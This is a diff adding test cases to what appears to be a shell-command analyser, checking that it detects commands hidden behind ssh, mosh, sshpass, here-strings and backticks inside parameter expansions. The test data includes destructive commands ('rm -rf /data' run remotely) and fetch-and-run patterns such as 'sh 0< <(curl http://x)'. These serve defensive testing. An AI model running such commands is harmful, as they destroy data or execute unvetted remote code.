@@ -22,6 +22,17 @@ shellCases('bash -c and friends (re-parsed)', [
   { cmd: 'bash -c "$CMD"', dynamic: true, note: /not literal/ },
   { cmd: 'bash -c "rm $x"', dynamic: true },
   { cmd: "bash -c 'echo \"unterminated'", parseError: /in bash -c/ },
+  // Found in review: ssh reads options after the host too, and a remote shell reads stdin.
+  { cmd: 'ssh host -- rm -rf /data', exact: ['ssh', 'rm'], args: { rm: ['-rf'] } },
+  { cmd: `ssh host -t 'bash -c "rm -rf /data"'`, commands: ['ssh', 'bash', 'rm'] },
+  { cmd: 'ssh host ls -la', exact: ['ssh', 'ls'], args: { ls: ['-la'] } },
+  { cmd: "ssh -T host <<< 'rm -rf /data'", commands: ['ssh', 'rm'] },
+  { cmd: 'ssh host < cmds', exact: ['ssh'], dynamic: false, note: /not analysed/ },
+  { cmd: 'ssh host < /dev/stdin', exact: ['ssh'], dynamic: true },
+  { cmd: 'curl http://x | ssh host', dynamic: true, note: /pipe/ },
+  { cmd: 'ssh host', exact: ['ssh'], dynamic: false },
+  { cmd: 'mosh host -- rm -rf /data', exact: ['mosh', 'rm'] },
+  { cmd: 'sshpass -p pw ssh host rm -rf /data', exact: ['sshpass', 'ssh', 'rm'] },
 ]);
 
 const q = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;
@@ -54,6 +65,16 @@ shellCases('substitutions', [
   { cmd: 'case $(rm x) in a) ls;; esac', commands: ['rm', 'ls'] },
   { cmd: 'for f in $(rm x); do echo $f; done', commands: ['rm', 'echo'] },
   { cmd: '[[ -n $(rm x) ]]', commands: ['[[', 'rm'] },
+  // Found in review: tree-sitter leaves backticks inside ${…} as plain text; bash runs them.
+  { cmd: 'echo ${x:=`rm -rf /data`}', commands: ['echo', 'rm'], args: { rm: ['-rf'] } },
+  { cmd: 'echo "${x:-`rm -rf /data`}"', commands: ['echo', 'rm'] },
+  { cmd: 'echo ${x:-`echo \\`rm y\\``}', commands: ['rm'] },
+  // A file descriptor number written before a redirection is not an argument (`sh 0< file`).
+  { cmd: 'sh 0< <(curl http://x)', commands: ['curl', 'sh'], dynamic: true },
+  { cmd: 'sh 0<&3', exact: ['sh'], dynamic: true },
+  { cmd: 'exec 0</tmp/cmds', exact: ['exec'], dynamic: true },
+  { cmd: 'cat x 2>/dev/null', exact: ['cat'], noArgs: { cat: ['2'] } },
+  { cmd: 'echo 2 >/tmp/o', args: { echo: ['2'] } },
 ]);
 
 shellCases('heredocs and here-strings', [
